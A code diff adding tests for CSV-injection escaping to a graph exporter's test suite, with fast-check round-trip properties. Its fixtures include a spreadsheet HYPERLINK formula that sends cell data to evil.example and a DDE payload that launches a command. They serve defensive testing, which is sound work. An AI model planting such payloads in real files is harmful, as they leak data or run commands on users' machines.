@@ -1,6 +1,7 @@
 import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { GraphDocumentSchema, GraphNodeSchema, RelationshipSchema, type Relationship } from '../../../graph/model.js';
@@ -8,6 +9,7 @@ import { UnprocessableError } from '../../../server/errors.js';
 import {
   decodeListCell,
   encodeListCell,
+  escapeFormulaCell,
   exportChunks,
   graphMlChunks,
   graphToGraphMl,
@@ -18,6 +20,7 @@ import {
   RELATIONSHIP_CSV_COLUMNS,
   sortedNodes,
   sortedRelationships,
+  unescapeFormulaCell,
   xmlEscape,
 } from '../../../server/exporters/graph-export.js';
 import { readGraphCsv } from '../../../server/importers/graph-csv.js';
@@ -294,6 +297,64 @@ describe('XML escaping', () => {
   });
 });
 
+/** What a spreadsheet takes for the start of a formula (OWASP, CSV injection). */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** Every data cell of a CSV export, as a spreadsheet reads them. */
+const dataCells = (text: string): string[] => (parse(text, { bom: true }) as string[][]).slice(1).flat();
+
+describe('spreadsheet formulas (CSV injection)', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+  const CMD = "+cmd|' /C calc'!A0";
+
+  it('prefixes a quote to text and list cells that a spreadsheet would run, and to quotes before them', () => {
+    expect(escapeFormulaCell(HYPERLINK)).toBe(`'${HYPERLINK}`);
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(escapeFormulaCell(`${start}x`)).toBe(`'${start}x`);
+    // A cell that already starts with quotes before such a character gets one more, so the import can tell.
+    expect(escapeFormulaCell("'=x")).toBe("''=x");
+    expect(escapeFormulaCell("''@x")).toBe("'''@x");
+    // Anything else is written as it is: names with an apostrophe, dashes further in, empty cells.
+    for (const plain of ["'t Hooft Metaal", "'quoted'", "'", 'a=b', 'Tin-Smelter', '', '0.5']) expect(escapeFormulaCell(plain)).toBe(plain);
+    expect(unescapeFormulaCell(`'${HYPERLINK}`)).toBe(HYPERLINK);
+    expect(unescapeFormulaCell("''=x")).toBe("'=x");
+    expect(unescapeFormulaCell("'t Hooft Metaal")).toBe("'t Hooft Metaal");
+  });
+
+  it('is a bijection: unescape(escape(s)) is s, and no escaped cell starts a formula', () => {
+    const unit = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ', '"', ',', '|', '\\', '\n', '中');
+    const cellArb = fc.oneof(fc.string({ unit, maxLength: 8 }), fc.string({ unit: 'binary', maxLength: 8 }));
+    fc.assert(
+      fc.property(cellArb, (s) => {
+        const escaped = escapeFormulaCell(s);
+        expect(unescapeFormulaCell(escaped)).toBe(s);
+        expect(escaped).not.toMatch(FORMULA_START);
+        // Only a cell that needs it changes, by exactly one leading quote.
+        expect(escaped).toBe(/^'*[=+\-@\t\r]/.test(s) ? `'${s}` : s);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it('writes a hostile company name and tag neutralised, numbers and booleans as they are', () => {
+    const scan = {
+      version: 1,
+      nodes: [
+        GraphNodeSchema.parse({ label: 'Company', id: '@evil', name: HYPERLINK, country: 'JP', tags: [CMD, '=2+3'], saqScore: 12.5 }),
+        GraphNodeSchema.parse({ label: 'Smelter', id: 'S1', name: "'t Hooft Metaal", country: 'NL', metal: 'tin', aliases: ['-Tin', 'Tin-B'], recycledOrScrap: false }),
+      ],
+      // A share below 0 cannot be stored ((0, 1]); written here to show a number column is left alone.
+      relationships: [{ type: 'SUPPLIES', from: 'S1', to: '@evil', metal: 'tin', share: -0.5, source: '+cmrt.xlsx', updatedAt: UPDATED_AT }],
+    } as GraphScan;
+    const nodes = graphToNodesCsv(scan).split('\r\n');
+    expect(nodes[1]).toBe(`Company,'@evil,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",JP,,,,,,12.5,,'+cmd\\|' /C calc'!A0|=2+3,,,,${extraNodeCells}`);
+    expect(nodes[2]).toBe(`Smelter,S1,'t Hooft Metaal,NL,tin,unknown,'-Tin|Tin-B,false,,,,,,,,${extraNodeCells}`);
+    expect(graphToRelationshipsCsv(scan).split('\r\n')[1]).toBe(`SUPPLIES,S1,'@evil,tin,-0.5,'+cmrt.xlsx,${UPDATED_AT}`);
+    // JSON and GraphML are not read by spreadsheets: they keep the text as it is.
+    expect(graphToJson(scan)).toContain(`"name":${JSON.stringify(HYPERLINK)}`);
+    expect(graphToGraphMl(scan)).toContain(`<data key="n_tags">${xmlEscape(encodeListCell([CMD, '=2+3']))}</data>`);
+  });
+});
+
 describe('round trips', () => {
   let dirs: string[] = [];
   const stores: EmbeddedGraphStore[] = [];
@@ -352,6 +413,8 @@ describe('round trips', () => {
         expect(canonicalDocument(json)).toEqual(expected);
         const csv = await readGraphCsv({ nodes: graphToNodesCsv(scan), relationships: graphToRelationshipsCsv(scan) });
         expect(canonicalDocument(csv.document)).toEqual(expected);
+        // The text is hostile ("=", "+", "-", "@" and "'" start names, ids, items), yet no cell starts a formula.
+        for (const cell of [...dataCells(graphToNodesCsv(scan)), ...dataCells(graphToRelationshipsCsv(scan))]) expect(cell).not.toMatch(FORMULA_START);
         // Bytes, as a file or an upload carries them.
         const bytes = await readGraphCsv({ nodes: Buffer.from(graphToNodesCsv(scan)), relationships: Buffer.from(graphToRelationshipsCsv(scan)) });
         expect(bytes.document).toEqual(csv.document);
